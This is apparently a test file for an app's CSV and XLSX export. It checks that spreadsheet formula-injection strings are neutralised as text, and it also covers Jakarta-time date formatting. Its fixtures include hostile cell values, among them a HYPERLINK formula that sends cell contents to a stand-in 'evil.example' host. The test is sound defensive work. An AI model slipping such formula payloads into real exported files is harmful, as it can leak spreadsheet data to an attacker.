import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { drivers } from '../support/database.ts';
import { signIn, startTestApp, type Client, type TestApp } from '../support/app.ts';
import { seedDemo } from '../../src/server/services/demo.ts';
import { listCategories, listEditions } from '../../src/db/repositories/editions.ts';
import { candidateTemplate } from '../../src/server/services/candidate-sheet.ts';
import { toCsv, toXlsx, type Table } from '../../src/server/services/tabular.ts';

const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', '+1+cmd', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

const table: Table = {
  name: 'Uji',
  columns: ['name', 'value'],
  rows: [...hostile.map((h) => [h, null]), ['PT Aman, Sentosa', -12.5], ['Kabupaten Sumbawa', 0], ['a-b', true]],
};

describe('exported tables', () => {
  it('write text a spreadsheet would run as a formula with a leading apostrophe in CSV; numbers stay numbers', () => {
    const lines = toCsv(table).toString('utf8').split('\r\n');
    expect(lines).toEqual([
      'name,value',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Klik"")",`,
      "'+1+cmd,",
      "'-2+3,",
      "'@SUM(A1:A9),",
      "'\t=1+1,",
      `"'\r=1+1",`,
      '"PT Aman, Sentosa",-12.5',
      'Kabupaten Sumbawa,0',
      'a-b,true',
      '',
    ]);
  });

  it('write such text in XLSX as plain string cells, never formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(table)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const cells = [2, 3, 4, 5, 6, 7, 8].map((r) => sheet.getRow(r).getCell(1));
    expect(cells.map((c) => c.type)).toEqual(Array(7).fill(ExcelJS.ValueType.String));
    // (XML reads a carriage return back as a line feed.)
    expect(cells.slice(0, 6).map((c) => c.value)).toEqual([...hostile.slice(0, 5), '\n=1+1']);
    expect(sheet.getRow(8).getCell(2).value).toBe(-12.5);
  });

  it('write a moment as WIB: ISO 8601 with +07:00 in CSV, an Excel date of Jakarta’s wall clock in XLSX', async () => {
    const moment = new Date('2026-11-30T17:30:00Z');
    const dated: Table = { name: 'Waktu', columns: ['waktu'], rows: [[moment]] };
    expect(toCsv(dated).toString('utf8')).toBe('waktu\r\n2026-12-01T00:30:00+07:00\r\n');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(dated)) as unknown as ArrayBuffer);
    const cell = workbook.worksheets[0]!.getRow(2).getCell(1);
    expect(cell.type).toBe(ExcelJS.ValueType.Date);
    expect(cell.numFmt).toBe('dd/mm/yyyy hh:mm');
    expect((cell.value as Date).toISOString()).toBe('2026-12-01T00:30:00.000Z');
  });

  it('keep the import template’s CSV free of formulas', async () => {
    const csv = (await candidateTemplate('csv', [])).toString('utf8');
    expect(csv.split('\n')[0]).toBe('kategori,kode_wilayah,npp,nama,kelas_usaha,sektor,alamat,nama_kontak,jabatan_kontak,telepon_kontak,email_kontak');
  });
});

describe.each(drivers())('a candidate named like a formula, exported on %s', (driver) => {
  let t: TestApp;
  let editionId: string;
  let national: Client;

  beforeAll(async () => {
    t = await startTestApp(driver);
    await seedDemo(t.database.db);
    editionId = (await listEditions(t.database.db))[0]!.id;
    national = await signIn(t, 'admin@paritrana.demo', 'paritrana-demo-2025');
  });
  afterAll(async () => t?.close());

  it('is written as text in the candidates CSV', async () => {
    const categoryId = (await listCategories(t.database.db, editionId)).find((c) => c.code === 'usaha-menengah')!.id;
    const name = '=HYPERLINK("http://evil.example","PT Klik")';
    const created = await national.request('POST', `/api/editions/${editionId}/candidates`, {
      categoryId,
      provinceCode: '52',
      regencyCode: null,
      npp: '19009999',
      name,
      sizeClass: 'menengah',
      sector: '-',
      address: null,
      contacts: [],
    });
    expect(created.statusCode, created.body).toBe(201);
    const csv = await national.request('GET', `/api/editions/${editionId}/exports/candidates?format=csv`);
    expect(csv.statusCode).toBe(200);
    const line = csv.body.split('\r\n').find((l) => l.includes('19009999'))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example"",""PT Klik"")"`);
    expect(line).toContain(",'-,");
    expect(line).not.toMatch(/(^|,)=/);
  });
});
